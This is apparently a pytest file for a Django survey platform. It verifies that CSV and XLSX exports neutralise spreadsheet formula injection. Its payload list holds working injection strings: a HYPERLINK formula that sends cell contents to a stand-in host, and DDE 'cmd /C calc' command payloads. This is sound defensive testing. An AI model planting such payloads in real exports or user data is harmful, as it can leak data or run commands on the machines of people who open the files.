"""Defect 2 of issue 13: no export ever contains a live formula.

Replays the review's finding: a SYNTHETIC response full of spreadsheet payloads (answers,
organisation names, a question label, a practice description) goes through every export
the product produces (web, command line, publication), and each file is opened: no XLSX
cell is a formula, no CSV cell starts with an unguarded ``= + - @``, tab or carriage return,
and the payloads are there (so the check cannot pass on an empty file). Before the one
writer (``iocompendium.spreadsheets``) the wide XLSX, the XLSX report and the organisations
XLSX held formulas, and five CSVs kept a leading ``=``."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from iocompendium.compendium import services as compendium_services
from iocompendium.compendium.models import PracticeStatus
from iocompendium.compendium.publishing import publish
from iocompendium.evidence import exports
from iocompendium.evidence.services import build_report
from iocompendium.registry.models import Organisation
from iocompendium.responses.tabular import read_sheets
from iocompendium.spreadsheets import CSV_TRIGGERS, guard_csv_cell, unguard_csv_cell
from tests.compendium.conftest import make_response, make_version, node, survey_structure

PAYLOADS = [
    '=HYPERLINK("http://x/?"&A1,"Click")',
    '+cmd|" /C calc"!A0',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "'=already quoted",
]
MARKERS = ["HYPERLINK", "calc", "SUM(", "=1+2"]
NUMBER = "-5"  # an integer answer: stays the number -5, never text or "'-5"


def _structure() -> dict:
    structure = survey_structure()
    coordination = structure["children"][2]["children"]
    coordination.append(node("integer", "staff", "Staff", "Personnel"))
    # A question label in the data dictionary, and the report.
    coordination[1]["label"] = {"en": PAYLOADS[0], "fr": PAYLOADS[1]}
    return structure


@pytest.fixture
def payload_survey(db):
    version = make_version("io-survey", _structure())
    responses = []
    for number, payload in enumerate(PAYLOADS):
        organisation = Organisation.objects.create(
            acronym=f"SYN-{number}", name_en=payload, name_fr=payload, category="igo",
            website="", synthetic=True)
        responses.append(make_response(organisation, version, {
            "implementation/implementation_examples": payload,
            "stakeholders_section/stakeholders": "igos",
            "stakeholders_section/stakeholders_examples": payload,
            "coordination/coordination_guidelines": "yes",
            "coordination/coordination_comments": payload,
            "coordination/staff": NUMBER,
        }))
    return responses


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def assert_csv_safe(text: str, name: str) -> None:
    cells = _csv_cells(text)
    unguarded = [c for c in cells if c[:1] in CSV_TRIGGERS and c != NUMBER]
    assert not unguarded, f"{name}: unguarded cells {unguarded[:3]}"


def assert_xlsx_safe(data: bytes, name: str) -> list:
    archive = zipfile.ZipFile(io.BytesIO(data))
    for member in archive.namelist():
        if member.startswith("xl/worksheets/"):
            xml = archive.read(member).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, f"{name}/{member} holds a formula"
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name}!{sheet.title}{cell.coordinate} formula"
                values.append(cell.value)
    return values


def assert_payloads_present(text: str, name: str) -> None:
    found = [m for m in MARKERS if m in text]
    assert found, f"{name}: no payload exported; the check would prove nothing"


def test_response_exports_hold_no_formula(payload_survey):
    statuses = exports.STATUS_SETS["all"]
    for fmt in ("long-csv", "dictionary"):
        _name, data = exports.build_export(fmt, "io-survey", statuses)
        text = data.decode("utf-8")
        assert_csv_safe(text, fmt)
        assert_payloads_present(text, fmt)
    _name, data = exports.build_export("wide-csv", "io-survey", statuses)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for member in archive.namelist():
            text = archive.read(member).decode("utf-8")
            assert_csv_safe(text, member)
    _name, data = exports.build_export("wide-xlsx", "io-survey", statuses)
    values = assert_xlsx_safe(data, "wide-xlsx")
    assert PAYLOADS[0] in values  # text kept as typed, as text
    assert -5 in values and NUMBER not in values  # the integer question stays a number


def test_wide_csv_round_trips_the_payloads(payload_survey):
    _name, data = exports.build_export("wide-csv", "io-survey", exports.STATUS_SETS["all"])
    sheets = read_sheets(Path("export.zip"), data)
    main = sheets[0]
    column = main.headers.index("coordination/coordination_comments")
    assert sorted(row[column] for _n, row in main.rows) == sorted(PAYLOADS)


def test_xlsx_report_holds_no_formula(payload_survey):
    _name, data = build_report("io-survey", fmt="xlsx", status_key="approved")
    values = assert_xlsx_safe(data, "report.xlsx")
    assert any(isinstance(v, str) and "HYPERLINK" in v for v in values)


def test_organisations_exports_hold_no_formula(payload_survey, tmp_path):
    call_command("organisations", "export", "-o", str(tmp_path / "o.xlsx"))
    values = assert_xlsx_safe((tmp_path / "o.xlsx").read_bytes(), "organisations.xlsx")
    assert PAYLOADS[0] in values
    call_command("organisations", "export", "-o", str(tmp_path / "o.csv"))
    text = (tmp_path / "o.csv").read_text(encoding="utf-8-sig")
    assert_csv_safe(text, "organisations.csv")
    assert_payloads_present(text, "organisations.csv")


def test_answer_and_audit_downloads_hold_no_formula(payload_survey, client, secretariat_user):
    client.force_login(secretariat_user)
    for response in payload_survey:
        for name in ("responses:answers_csv", "responses:audit_csv"):
            page = client.get(reverse(name, args=[response.pk]))
            assert page.status_code == 200
            text = b"".join(page.streaming_content).decode("utf-8")
            assert_csv_safe(text, name)
    text = b"".join(client.get(reverse("responses:answers_csv", args=[payload_survey[0].pk]))
                    .streaming_content).decode("utf-8")
    assert_payloads_present(text, "answers.csv")


def test_published_data_holds_no_formula(payload_survey, tmp_path):
    compendium_services.load_key_principles()
    for response in payload_survey[:3]:
        practice = compendium_services.practice_from_answer(
            response, "implementation/implementation_examples")
        compendium_services.set_practice_status(practice, PracticeStatus.PUBLISHED,
                                                base_version=practice.version)
    result = publish(tmp_path / "site", with_pdf=False)
    data_files = sorted((tmp_path / "site" / "data").glob("*.csv"))
    assert data_files and result.data_files
    joined = ""
    for path in data_files:
        text = path.read_text(encoding="utf-8")
        assert_csv_safe(text, path.name)
        joined += text
    assert_payloads_present(joined, "data/*.csv")


@given(st.text(max_size=12))
def test_csv_guard_is_reversible_and_safe(value):
    guarded = guard_csv_cell(value)
    assert unguard_csv_cell(guarded) == value
    if guarded[:1] in CSV_TRIGGERS:
        float(guarded)  # only a plain number may start with a trigger


def test_numbers_are_not_guarded():
    assert guard_csv_cell(-5) == -5
    assert guard_csv_cell("-5") == "-5"
    assert guard_csv_cell("-5+cmd") == "'-5+cmd"
